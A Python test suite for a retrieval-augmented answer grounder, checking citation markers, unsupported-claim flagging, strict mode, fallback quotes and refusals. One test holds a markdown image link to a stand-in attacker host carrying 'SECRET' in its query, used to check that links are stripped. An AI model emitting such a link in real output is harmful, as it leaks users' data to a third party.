"""Checking an answer while it is being written."""

import re
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.support.passages import a_passage
from tunedd_api.rag.answering.grounding.grounder import AnswerGrounder, Grounded
from tunedd_api.rag.claims.support import Evidence
from tunedd_api.rag.page_text.quotes import Quote
from tunedd_api.rag.prompts import NO_ANSWER

BEES = a_passage(
    "Honeybees dance for their sisters. The hive shelters 60,000 workers.", name="bees.md", start=50
)
BREAD = a_passage("Wild yeast ferments flour [12]. Gluten traps gas.", name="bread.txt", page=2)
EVIDENCE = Evidence([BEES, BREAD])

DANCE = "Honeybees dance for their sisters."
HIVE = "The hive shelters 60,000 workers."
YEAST = "Wild yeast ferments flour."
INVENTED = "Napoleon personally baked croissants."

MARKER = re.compile(r"\[\s*(\d+)(?:\s*[,;]\s*\d+)*\s*\]")
PARTS = (
    *(DANCE, HIVE, YEAST, INVENTED, "Yes.", "e.g. so", "3.5 percent", "Dr. Who?"),
    *("[1]", "[9]", " [2, 3]", "[ 4 ;5 ]", "[1, 2, 3, 4, 5, 6, 7, 8, 9]", "[1][2]", "[[1]2]"),
    *("[", "]", "7", ",", "[a", "[1 and 2]", " ", "\n", "\n\n- ", "“", "”", "…"),
)
ANSWERS = st.lists(st.sampled_from(PARTS), max_size=10).map("".join) | st.lists(
    st.sampled_from(PARTS), max_size=10
).map(" ".join)


@st.composite
def chunkings(draw: st.DrawFn) -> list[str]:
    """An answer cut into pieces anywhere."""
    answer = draw(ANSWERS)
    cuts = sorted(draw(st.sets(st.integers(1, max(len(answer) - 1, 1)), max_size=30)))
    return [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]


def streamed(grounder: AnswerGrounder, pieces: Sequence[str]) -> Iterator[str]:
    """What is shown of an answer that comes in pieces."""
    for piece in pieces:
        yield from grounder.feed(piece)
        if grounder.exhausted:
            break
    yield from grounder.finish()


def grounded(answer: str, *, strict: bool = False, by_letter: bool = False) -> Grounded:
    """An answer, checked in one piece or letter by letter."""
    grounder = AnswerGrounder(EVIDENCE, strict=strict)
    shown = "".join(streamed(grounder, list(answer) if by_letter else [answer]))
    result = grounder.grounded()
    assert shown == result.content
    return result


BY_LETTER = pytest.mark.parametrize("by_letter", [False, True])


@example(pieces=["[[1", "]2]"])
@example(pieces=["[1, 2, 3, 4, ", "5, 6, 7, 8, 9]"])
@given(pieces=chunkings())
def test_whatever_the_pieces(pieces: list[str]) -> None:
    """However an answer is cut, what is shown adds up, and its markers are the citations'."""
    for strict in (False, True):
        grounder = AnswerGrounder(EVIDENCE, strict=strict)
        shown = list(streamed(grounder, pieces))
        if grounder.empty:
            shown += grounder.fall_back([Quote(BREAD, 0, 31, BREAD.text[:31])])
        result = grounder.grounded()
        assert "".join(shown) == result.content
        assert all(shown)

        numbers = [c.marker for c in result.citations]
        assert numbers == list(range(1, len(numbers) + 1))
        marks = [match.group() for match in MARKER.finditer(result.content)]
        assert {f"[{number}]" for number in numbers} == set(marks)
        for citation in result.citations:
            passage = BEES if citation.document == BEES.document else BREAD
            assert citation.page == passage.page
            start, end = citation.start - passage.start, citation.end - passage.start
            assert passage.text[start:end] == citation.quote != ""

        assert not (strict and result.unsupported)
        after = 0
        for span in result.unsupported:
            assert after <= span.start < span.end <= len(result.content)
            text = result.content[span.start : span.end]
            assert text == text.strip()
            assert not MARKER.search(text)
            after = span.end


@BY_LETTER
def test_marker_behind_each_sentence(*, by_letter: bool) -> None:
    """Behind each sentence stands the number of its quote, counted as they come."""
    result = grounded(f"{YEAST} {DANCE} {YEAST}", by_letter=by_letter)
    assert result.content == f"{YEAST} [1] {DANCE} [2] {YEAST} [1]"
    assert [c.quote for c in result.citations] == ["Wild yeast ferments flour [12].", DANCE]
    assert [(c.document.name, c.page) for c in result.citations] == [
        ("bread.txt", 2),
        ("bees.md", 1),
    ]
    assert (result.citations[1].start, result.citations[1].end) == (50, 50 + len(DANCE))
    assert result.citations[1].score == 1.0
    assert result.unsupported == ()


@BY_LETTER
def test_unsupported_sentences(*, by_letter: bool) -> None:
    """Spans mark exactly the sentences that nothing bears out, between the markers of others."""
    result = grounded(f"{INVENTED} {DANCE}\n\n{INVENTED} And so on.", by_letter=by_letter)
    spans = [result.content[s.start : s.end] for s in result.unsupported]
    assert spans == [INVENTED, INVENTED]
    assert result.content == f"{INVENTED} {DANCE} [1]\n\n{INVENTED} And so on."


@BY_LETTER
def test_numbers_must_match(*, by_letter: bool) -> None:
    """A sentence whose number is another than the passage's is marked as unsupported."""
    wrong = "The hive shelters 70,000 workers."
    result = grounded(f"{wrong} {HIVE}", by_letter=by_letter)
    assert [result.content[s.start : s.end] for s in result.unsupported] == [wrong]
    assert [c.quote for c in result.citations] == [HIVE]


@BY_LETTER
@pytest.mark.parametrize(
    "said",
    [
        f"{DANCE[:-1]} [2]. {YEAST}",
        f"{DANCE} [9]{YEAST}",
        f"[1] {DANCE} {YEAST} [1][2] [3]",
        f"{DANCE} [ 1 , 2;3 ] {YEAST}",
        f"{DANCE}\n[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12] {YEAST}",
        f"{DANCE} [[1]2] {YEAST}",
    ],
)
def test_own_markers_of_the_model(said: str, *, by_letter: bool) -> None:
    """Markers that the model sets are taken away, wherever they stand and whatever they name."""
    result = grounded(said, by_letter=by_letter)
    assert MARKER.findall(result.content) == ["1", "2"]
    assert [c.quote for c in result.citations] == [DANCE, "Wild yeast ferments flour [12]."]


@BY_LETTER
@pytest.mark.parametrize(
    "said",
    [
        "Take items[i] and [a, b] as lists.",
        "See [Smith 2020] and [sic].",
        "An open [ bracket and ] another",
        "It ends in [12",
        "It ends in [",
        "Up to [1-3] or [4 to 5]",
        "A matrix [[a], [b]]",
    ],
)
def test_brackets_that_are_no_markers(said: str, *, by_letter: bool) -> None:
    """Brackets that are no markers are shown as they are."""
    assert grounded(said, by_letter=by_letter).content == said


@BY_LETTER
def test_strict_leaves_out_what_is_unsupported(*, by_letter: bool) -> None:
    """With strict grounding an unsupported sentence is left out, and the second ends the answer."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    answer = f"{DANCE} {INVENTED} {YEAST} {INVENTED} {DANCE}"
    shown = "".join(streamed(grounder, list(answer) if by_letter else [answer]))
    assert shown == grounder.grounded().content == f"{DANCE} [1] {YEAST} [2]"
    assert grounder.exhausted
    assert grounder.has_gaps
    assert grounder.grounded().unsupported == ()


def test_strict_ends_with_an_unsupported_beginning() -> None:
    """With strict grounding an answer that begins with something unsupported is none."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert "".join(streamed(grounder, [f"{INVENTED} {DANCE}"])) == ""
    assert grounder.exhausted
    assert grounder.has_gaps


def test_what_leans_on_a_gap_is_left_out() -> None:
    """A sentence that only the one before it explains goes with it."""
    answer = f"{DANCE} {INVENTED} This wild yeast ferments flour."
    assert grounded(answer, strict=True).content == f"{DANCE} [1]"


def test_strict_answers_end_after_four_claims() -> None:
    """A model that goes on and on is stopped, but not within a list."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    shown = "".join(streamed(grounder, [" ".join([DANCE] * 6)]))
    assert shown == " ".join([f"{DANCE} [1]"] * 4)
    assert not grounder.has_gaps
    items = "\n".join(f"- {DANCE}" for _ in range(6))
    assert grounded(items, strict=True).content.count(DANCE) == 6


def test_quotes_beside_an_answer() -> None:
    """A quote makes up for a gap, unless the answer says the same already."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    list(streamed(grounder, [f"{DANCE} {INVENTED}"]))
    sentences = EVIDENCE.sentences()
    repeated = next(q for q in sentences if q.text == DANCE)
    other = next(q for q in sentences if q.text != DANCE)
    assert list(grounder.fall_back([repeated])) == []
    assert "".join(grounder.fall_back([repeated, other])) == f" “{other.text}” [2]"


def test_what_an_answer_leaves_out_of_its_source_is_quoted() -> None:
    """A cited sentence is quoted again where the answer keeps a number of it to itself."""
    text = "The board has nine members and meets in the old lock house. It was founded by Reed."
    page = a_passage(text)
    for said, quote in (
        ("The board meets in the old lock house.", text),
        ("The board has nine members and meets in the old lock house.", text[60:]),
    ):
        grounder = AnswerGrounder(Evidence([page]), strict=True)
        list(streamed(grounder, [said]))
        assert f"“{quote}”" in "".join(grounder.fall_back([Quote.of(page, 0, len(text))]))


def test_only_what_is_left_of_a_quote_is_shown() -> None:
    """What the answer says and cites is cut off at the ends of a quote, and not from within."""
    first, second, third = (
        "Reed dug the canal by hand.",
        "Holt lined its bed with clay.",
        "Boats came in summer.",
    )
    page = a_passage(f"{first} {second} {third}")
    whole = Quote.of(page, 0, len(page.text))
    for said, left in (
        (first, f"{second} {third}"),
        (second, page.text),
        (third, f"{first} {second}"),
    ):
        grounder = AnswerGrounder(Evidence([page]), strict=True)
        list(streamed(grounder, [said]))
        assert "".join(grounder.fall_back([whole])) == f" “{left}” [2]"
    grounder = AnswerGrounder(Evidence([page]), strict=True)
    list(streamed(grounder, [first]))
    assert list(grounder.fall_back([whole], brief=True)) == []


def test_strict_leaves_out_what_is_beside_the_point() -> None:
    """A claim that is borne out and not about what was asked is left out, like any other gap."""
    grounder = AnswerGrounder(EVIDENCE, strict=True, answers=lambda claim, _: YEAST not in claim)
    assert "".join(streamed(grounder, [f"{DANCE} {YEAST}"])).strip() == f"{DANCE} [1]"
    assert grounder.has_gaps


def test_strict_shows_no_half_sentence() -> None:
    """With strict grounding a sentence is shown as a whole, once it is borne out."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert list(grounder.feed(DANCE)) == []
    assert "".join(grounder.feed(" The")) == f"{DANCE} [1]"
    assert "".join(grounder.feed(" hive shelters 60,000 workers")) == ""
    assert "".join(grounder.finish()) == " The hive shelters 60,000 workers [2]"


def test_strict_shows_what_claims_nothing() -> None:
    """With strict grounding a sentence that claims nothing may stand."""
    assert grounded(f"It is so. {DANCE}", strict=True).content == f"It is so. {DANCE} [1]"


def test_marking_shows_pieces_at_once() -> None:
    """Without strict grounding what is surely text is shown as it comes."""
    grounder = AnswerGrounder(EVIDENCE, strict=False)
    assert list(grounder.feed("Honey")) == ["Honey"]
    assert list(grounder.feed("bees dance")) == ["bees dance"]
    assert list(grounder.feed(" [")) == []
    assert "".join(grounder.feed("x] y")) == " [x] y"


@BY_LETTER
def test_links_become_text(*, by_letter: bool) -> None:
    """A link or a picture that the model writes is shown by its name alone."""
    said = "[x](https://example.org/[y]) and ![z](https://evil.example/?q=SECRET)."
    assert grounded(said, by_letter=by_letter).content == "x and z."


def test_fallback() -> None:
    """Quotes shown in the model's place are cited, and their own brackets do not mislead."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert "".join(streamed(grounder, [INVENTED])) == ""
    assert grounder.empty
    quotes = [Quote(BREAD, 0, 31, BREAD.text[:31]), Quote(BEES, 50, 84, BEES.text[:34])]
    shown = "".join(grounder.fall_back(quotes))
    result = grounder.grounded()
    assert shown == result.content == f"“{YEAST}” [1] “{DANCE}” [2]"
    assert [c.quote for c in result.citations] == [BREAD.text[:31], DANCE]


def test_fallback_names_the_columns_beside_the_quote() -> None:
    """What names a row's columns is said before the quotation marks, and is not cited."""
    row = a_passage("Elmford | 16 | 1946", start=40)
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    header = "Station | **Platforms** [7] | Opened"
    shown = "".join(grounder.fall_back([Quote.of(row, 0, len(row.text), header)]))
    assert shown == "Station | Platforms | Opened: “Elmford | 16 | 1946” [1]"
    (citation,) = grounder.grounded().citations
    assert (citation.quote, citation.start, citation.end) == (row.text, 40, 59)


def test_fallback_without_quotes() -> None:
    """Where there is nothing to quote either, it says that there is no answer."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert "".join(grounder.fall_back([])) == NO_ANSWER
    assert grounder.grounded() == Grounded(NO_ANSWER, (), ())


@BY_LETTER
def test_blanks_around_the_answer(*, by_letter: bool) -> None:
    """Blanks before and after the answer are not shown."""
    assert grounded(f"\n\n  {DANCE} \n", by_letter=by_letter).content == f"{DANCE} [1]"
    assert grounded(" \n ", by_letter=by_letter).content == ""


def test_best_score_of_a_quote() -> None:
    """A quote that bears out several sentences has the score of the one it fits best."""
    result = grounded(f"Honeybees dance for sisters gladly. {DANCE}")
    assert [(c.marker, c.score) for c in result.citations] == [(1, 1.0)]


def test_sentence_that_breaks_off_is_left_out() -> None:
    """With strict checking a sentence without an end is no part of the answer."""
    result = grounded(f"Honeybees dance for the. {HIVE}", strict=True)
    assert result.content == f"{HIVE} [1]"


@BY_LETTER
@pytest.mark.parametrize(
    "refusal",
    ["The documents do not answer this question. [1]", "The passages do not say.", NO_ANSWER],
)
def test_refusals_are_never_cited(refusal: str, *, by_letter: bool) -> None:
    """A refusal is shown without a marker, and flagged as no claim."""
    result = grounded(refusal, by_letter=by_letter)
    assert result.citations == ()
    assert result.unsupported == ()
    assert "[" not in result.content


def test_refusal_beside_an_answer() -> None:
    """What is borne out beside a refusal is cited; the refusal is left out of a strict answer."""
    answer = f"The passages do not give a date. {DANCE}"
    assert grounded(answer).content == f"The passages do not give a date. {DANCE} [1]"
    assert grounded(answer, strict=True).content == f"{DANCE} [1]"
    mixed = f"The passages do not say why, but {DANCE[0].lower()}{DANCE[1:]}"
    assert grounded(mixed).content == f"{mixed} [1]"


def test_what_the_model_did() -> None:
    """It can be told whether the model refused, and whether anything was borne out."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert "".join(streamed(grounder, ["The passages do not say."])) == ""
    assert (grounder.refused, grounder.answered, grounder.empty) == (True, False, True)
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    list(streamed(grounder, [DANCE]))
    assert (grounder.refused, grounder.answered) == (False, True)


def test_yes_needs_a_sentence_that_bears_it_out() -> None:
    """A bare yes or no is shown with a sentence that is borne out, and flagged without one."""
    assert grounded(f"Yes. {DANCE}", strict=True).content == f"Yes. {DANCE} [1]"
    assert grounded("No.", strict=True).content == ""
    for verdict in ("No, it does not always exist.", "They cannot.", "It never is."):
        assert grounded(verdict, strict=True).content == ""
        assert grounded(f"{verdict} {DANCE}", strict=True).content == f"{verdict} {DANCE} [1]"
        alone = grounded(verdict)
        assert [alone.content[s.start : s.end] for s in alone.unsupported] == [verdict]
    assert grounded(f"Yes, {DANCE}", strict=True).content == f"Yes, {DANCE} [1]"
    alone = grounded("No.")
    assert [alone.content[s.start : s.end] for s in alone.unsupported] == ["No."]
    assert grounded(f"Yes. {DANCE}").unsupported == ()


def test_cut_off_sentence_is_not_cited() -> None:
    """The sentence at which the model was cut off has no marker."""
    grounder = AnswerGrounder(EVIDENCE, strict=False)
    shown = "".join(grounder.feed(f"{DANCE} The hive shelters 60,000 workers"))
    shown += "".join(grounder.finish(truncated=True))
    result = grounder.grounded()
    assert shown == result.content == f"{DANCE} [1] The hive shelters 60,000 workers"
    assert [result.content[s.start : s.end] for s in result.unsupported] == [
        "The hive shelters 60,000 workers"
    ]
    strict = AnswerGrounder(EVIDENCE, strict=True)
    shown = "".join(strict.feed(f"{DANCE} The hive shelters 60,000 workers"))
    assert shown + "".join(strict.finish(truncated=True)) == f"{DANCE} [1]"


def test_fallback_is_plain_text() -> None:
    """Markup in a quote is not shown; the citation keeps the page's own letters."""
    text = "Bees [dance](https://example.org) **well**."
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    passage = a_passage(text)
    shown = "".join(grounder.fall_back([Quote(passage, 0, len(text), text)]))
    assert shown == "“Bees dance well.” [1]"
    assert grounder.grounded().citations[0].quote == text


@pytest.mark.parametrize("strict", [False, True])
def test_a_negation_is_no_verdict(*, strict: bool) -> None:
    """A "no" that belongs to what is said is checked with it; only "No," before it is set aside."""
    denied = grounded("No hive shelters 60,000 workers.", strict=strict)
    assert denied.citations == ()
    affirmed = grounded(f"Yes, {DANCE}", strict=strict)
    assert [citation.quote for citation in affirmed.citations] == [DANCE]


def test_a_bare_fragment_is_not_borne_out() -> None:
    """A number alone answers a question that the page may not speak of: it is not cited."""
    assert grounded("60,000.").citations == ()


def test_quotes_go_on_where_the_answer_stands() -> None:
    """What is cited already is not quoted again before what makes up for the rest."""
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    shown = [*grounder.feed(DANCE), *grounder.finish()]
    shown += grounder.fall_back([Quote.of(BEES, 0, len(BEES.text))])
    assert "".join(shown) == f"{DANCE} [1] “{HIVE}” [2]"
    assert grounder.grounded().citations[1].quote == HIVE


@pytest.mark.parametrize(
    "frame",
    [
        "Based on the passages, {}",
        "According to the provided documents: {}",
        "As stated in the text, {}",
        "Based on the information given in the passages, in summary, {}",
        "The second passage states that {}",
        "The answer to your question is that {}",
        "Yes, according to the context, {}",
        "Here is what they say: {}",
        "According to the leaflet, {}",
        "The report notes that {}",
        "Laut den Textstellen, {}",
        "Según los documentos, {}",
        "D’après le texte, {}",
    ],
)
def test_what_is_said_of_the_passages_needs_no_support(frame: str) -> None:
    """That a claim is taken from the passages is no claim; whose words it is otherwise is one."""
    bees, bread = (text[0].lower() + text[1:] for text in (DANCE, INVENTED))
    assert grounded(frame.format(bees)).content == f"{frame.format(bees)} [1]"
    assert grounded(frame.format(bread)).citations == ()
    assert grounded(frame.format(bread)).unsupported != ()
    assert grounded(f"According to Napoleon, {bees}").citations == ()


def test_strict_shows_the_claim_without_its_frame() -> None:
    """A strict answer says what the passages say, and not that they say it."""
    bees = DANCE[0].lower() + DANCE[1:]
    assert grounded(f"The passage states that {bees}", strict=True).content == f"{DANCE} [1]"
    said = f"Yes, according to the text, {bees}"
    assert grounded(said, strict=True).content == f"Yes, {bees} [1]"
    assert grounded(f"The passage states that {bees}").content.startswith("The passage states")


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("“Honeybees dance” for their sisters.", "“Honeybees dance” for their sisters."),
        ('"The honeybees dance" for their sisters.', "The honeybees dance for their sisters."),
        ('Honeybees "dance for their sisters.', "Honeybees dance for their sisters."),
    ],
)
def test_quotation_marks_stand_around_the_documents_words(said: str, shown: str) -> None:
    """What a strict answer has between quotation marks stands in its source, word for word."""
    assert grounded(said, strict=True).content == f"{shown} [1]"


@pytest.mark.parametrize(
    "said", ["Sure!", "Great question!", "Here are the facts about bees:", "I hope this helps!"]
)
def test_talk_around_an_answer_is_no_claim(said: str) -> None:
    """What speaks of the talk alone is not flagged, ends no strict answer, and is not in one."""
    assert grounded(f"{said}\n{DANCE}").unsupported == ()
    assert grounded(f"{said}\n{DANCE}", strict=True).content == f"{DANCE} [1]"
    assert grounded(f"{DANCE} {said}", strict=True).content.strip() == f"{DANCE} [1]"


def test_each_quote_comes_with_its_citation() -> None:
    """Who reads the pieces as they come finds in each the markers of its citations."""
    page = a_passage("The hall is open from nine.\n\nThe bar closes at ten.")
    first, second = Quote.of(page, 0, 27), Quote.of(page, 29, 51)
    grounder = AnswerGrounder(Evidence([page]), strict=True)
    shown = [(piece, grounder.new_citations()) for piece in grounder.open_with([first, second])]
    assert [[c.marker for c in citations] for _, citations in shown] == [[1], [2]]
    assert all(f"[{c.marker}]" in piece for piece, citations in shown for c in citations)


def test_an_answer_may_open_with_a_quote() -> None:
    """What the model says behind a quote is shown with a marker, but for what the quote says."""
    opening = [Quote.of(BEES, 0, len(DANCE))]
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert list(grounder.open_with(opening)) == [f"“{DANCE}” [1]"]
    said = "".join(streamed(grounder, [f"Of course. {DANCE} {HIVE} {INVENTED}"]))
    assert said == f" {HIVE} [2]"
    assert grounder.has_gaps

    mute = AnswerGrounder(EVIDENCE, strict=True)
    list(mute.open_with(opening))
    assert "".join(streamed(mute, [f"{INVENTED} {HIVE}"])) == ""
    assert (mute.exhausted, mute.has_gaps) == (True, True)
    assert list(mute.fall_back(opening)) == []


def test_what_only_leaves_words_of_the_opening_out_is_not_said_again() -> None:
    """A shortened copy of the quote that opens an answer adds nothing, unless a fact was asked."""
    text = "The canal, dug by Reed in 1811, joins the two lakes by seven locks."
    page = a_passage(text)
    said = "The canal joins the two lakes by seven locks."
    for brief, shown in ((False, ""), (True, f" {said} [1]")):
        grounder = AnswerGrounder(Evidence([page]), strict=True)
        list(grounder.open_with([Quote.of(page, 0, len(text))], brief=brief))
        assert "".join(streamed(grounder, [said])) == shown
        assert not grounder.has_gaps


def test_the_one_thing_that_was_asked_for_is_said_once() -> None:
    """Who asks for a fact that a quote holds hears one sentence more from the same place."""
    short = AnswerGrounder(EVIDENCE, strict=True)
    list(short.open_with([Quote.of(BEES, 0, len(BEES.text))], brief=True))
    busy = "The hive shelters 60,000 busy workers."
    assert "".join(streamed(short, [f"{busy} ", YEAST])) == f" {busy} [2]"
    assert (short.exhausted, short.has_gaps) == (True, False)


@pytest.mark.parametrize("unit", [" ", "\n", "! ", "[", "[1", "[ ", "[1] ", "x.) "])
def test_what_a_model_repeats_for_long_takes_linear_time(unit: str) -> None:
    """A claim that is not borne out is left out at once, whatever else it is made of."""
    answer = f"{INVENTED[:-1]} according to the text{unit * (20_000 // len(unit))}x. "
    grounder = AnswerGrounder(EVIDENCE, strict=True)
    assert "".join(streamed(grounder, [answer, HIVE])) == ""
    assert (grounder.exhausted, grounder.has_gaps) == (True, True)
